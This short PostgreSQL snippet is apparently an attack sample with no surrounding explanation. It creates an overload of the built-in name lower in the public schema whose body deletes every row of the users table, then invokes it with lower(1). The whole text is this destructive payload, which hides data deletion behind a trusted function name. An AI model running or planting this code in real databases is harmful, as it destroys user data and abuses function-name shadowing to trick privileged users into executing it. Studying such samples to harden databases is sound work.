CREATE FUNCTION public.lower(int) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN ''; END $$;
SELECT lower(1);
